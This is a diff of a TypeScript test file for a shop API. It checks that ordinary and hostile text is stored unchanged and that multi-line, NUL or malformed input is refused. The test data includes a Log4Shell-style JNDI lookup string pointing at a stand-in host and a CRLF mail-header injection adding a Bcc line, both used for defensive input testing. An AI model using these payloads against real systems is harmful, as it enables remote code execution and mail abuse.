@@ -8,7 +8,7 @@ const shop = await startShop()
 const [asha, seller, rice] = [await aShopper(shop), await aSeller(shop), await aProduct(shop)]
 let count = 0
 
-/** What people, and people with other plans, write into a shop. Each is text and nothing but text. */
+/** Ordinary and hostile input; each is plain text for the shop. */
 const texts: Record<string, string> = {
   'composed letters': 'Café',
   'the same letters in parts': 'Cafe\u0301',
@@ -37,7 +37,6 @@ const texts: Record<string, string> = {
   'a lookup': '\u0024{jndi:ldap://evil.example/x}',
 }
 
-/** What only a field of several lines takes. */
 const lines: Record<string, string> = {
   'two lines': 'one\ntwo',
   'a line of a mail': 'Asha\r\nBcc: all@haat.example',
@@ -49,7 +48,7 @@ const lines: Record<string, string> = {
 }
 
 describe('text', () => {
-  test.for(Object.entries(texts))('of %s comes back as it went in, wherever it is kept', async ([, text]) => {
+  test.for(Object.entries(texts))('of %s is returned as it was sent, from every table', async ([, text]) => {
     const shopper = aVisitor(shop)
     const email = `text-${++count}@example.com`
     const { user } = await shopper.register({ name: text, email, password: 'mustard-fields-in-bloom' })
@@ -77,12 +76,12 @@ describe('text', () => {
     await shopper.placeCodOrder({ items: [{ product: product._id, quantity: 1 }], address: address._id })
     const [order] = (await shopper.listMyOrders()).orders
     expect(order).toMatchObject({ address: typed, items: [{ product: { name: text, weight: text } }] })
-    // In the list a seller is not told its steps, nor how a shopper may still pay it.
+    // A list of orders has neither its history nor its open payment.
     const { history: _steps, online: _payment, ...seen } = order!
     expect((await seller.listOrders()).orders[0]).toMatchObject(seen)
   })
 
-  test.for(Object.entries(lines))('of %s is refused where one line is wanted', async ([, text]) => {
+  test.for(Object.entries(lines))('of %s is refused in a field of one line', async ([, text]) => {
     const oneLine = {
       code: 'invalid_input',
       message: expect.stringMatching(/must be a single line of text$/),
@@ -102,16 +101,16 @@ describe('text', () => {
     expect(added.product.description).toEqual([text])
   })
 
-  test('composed and in parts are two names, as they were written', async () => {
+  test('composed and decomposed are two names, stored as typed', async () => {
     const one = await aProduct(shop, { name: 'Crème fraîche' })
     const { products } = await asha.listProducts({ ids: one._id })
     expect(products[0]?.name).not.toBe('Crème fraîche'.normalize('NFD'))
   })
 
-  test('with half a character or with NUL is refused wherever text is taken, and never a fault', async () => {
+  test('with half a character or with NUL is refused by every endpoint, and never an internal error', async () => {
     const address = anAddress()
     const registration = { name: 'Asha', email: 'half@example.com', password: 'mustard-fields-in-bloom' }
-    // As raw JSON, for that is how they come.
+    // As raw JSON, because JSON.stringify would escape it.
     for (const bad of ['x\\u0000y', '\\u0000', 'x\\ud83d', '\\udc4dx', '\\ud83d\\ud83d']) {
       const tries: [string, string, object][] = [
         ...Object.keys(address)
@@ -155,7 +154,7 @@ describe('text', () => {
     }
   })
 
-  test('is wanted where text is wanted: no list, no object and no condition stands for it', async () => {
+  test('is required where text is expected: lists, objects and conditions are refused', async () => {
     const bodies: [TestUser, string, string, unknown][] = [
       [
         asha,
